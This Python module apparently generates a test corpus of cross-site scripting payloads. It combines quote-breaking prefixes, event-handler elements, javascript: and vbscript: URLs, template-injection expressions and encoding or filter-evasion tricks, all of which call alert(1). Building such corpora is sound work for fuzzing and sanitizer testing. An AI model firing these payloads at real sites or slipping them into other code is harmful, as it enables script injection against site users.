"""Our own hostile strings: every element x handler x way out of a quote we know. The public lists are next door.

Each payload would call `alert` if it were ever read as markup, an attribute, a URL, a style or a template.
"""

from __future__ import annotations

import base64
import html
from itertools import product
from urllib.parse import quote

CODE = "alert(1)"
ESCAPES = ("", '">', "'>", "</textarea>", "</title>", "</option></select>", "--><", "</style>", "]]>", "`>")
ELEMENTS = (
    "img src=x onerror={}",
    "svg onload={}",
    "body onload={}",
    "input autofocus onfocus={}",
    "select autofocus onfocus={}",
    "textarea autofocus onfocus={}",
    "details open ontoggle={}",
    "video><source onerror={}",
    "audio src=x onerror={}",
    "marquee onstart={}",
    "iframe onload={}",
    "object onerror={} data=x",
    "style onload={}",
    "link rel=stylesheet href=x onerror={}",
    "div style=animation-name:x onanimationstart={}",
    "a autofocus tabindex=1 onfocus={} href=#",
    "button autofocus onfocus={}",
    "form onsubmit={}><input type=submit autofocus",
    "math><mtext><img src=x onerror={}",
    "svg><animate onbegin={} attributeName=x dur=1s",
    "svg><set onbegin={} attributename=x",
    "svg><script>{}</script",
    "script>{}</script",
    "template><img src=x onerror={}",
    "keygen autofocus onfocus={}",
    "xss contenteditable autofocus onfocus={}",
    "dialog open onclose={}",
)
VALUES = (CODE, f'"{CODE}"', "alert`1`", "&#97;lert(1)", "eval('al'+'ert(1)')", "top['al'+'ert'](1)")
URLS = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java&#10;script:",
    "\x01javascript:",
    "data:text/html,",
    "vbscript:",
)
HOLDERS = (
    '<a href="{}">x</a>',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button autofocus>x</button></form>',
    '<object data="{}"></object>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<meta http-equiv=refresh content="0;url={}">',
    '<base href="{}//">',
    '<link rel=import href="{}">',
)
TEMPLATES = (
    "{{{{ {0} }}}}",
    "${{{0}}}",
    "{{% {0} %}}",
    "#{{{0}}}",
    "<%= {0} %>",
    "[[{0}]]",
    "{{{{constructor.constructor('{0}')()}}}}",
)


def own_payloads() -> list[str]:
    """The generated ones, without repetition, in a fixed order."""
    made = [f"{out}<{element.format(value)}>" for out, element, value in product(ESCAPES, ELEMENTS, VALUES)]
    made += [holder.format(url + CODE) for holder, url in product(HOLDERS, URLS)]
    made += [template.format(expression) for template, expression in product(TEMPLATES, (CODE, "7*7", "config"))]
    made += [f"{mark} on{event}={CODE} x={mark}" for mark, event in product("\"'` ", ("focus", "mouseover", "error"))]
    script = f"<script>{CODE}</script>"
    made += [html.escape(script), quote(script), quote(quote(script)), script.replace("<", "\uff1c"), script[:-9]]
    made += [
        script.replace("<", "+ADw-"),
        "\u2028" + script,
        "\x00" + script,
        script.encode("utf-16-be").decode("latin-1"),
    ]
    made += [base64.b64encode(script.encode()).decode(), "\u202e" + script, "<scr\x00ipt>" + CODE, "<<script>" + CODE]
    return list(dict.fromkeys(made))
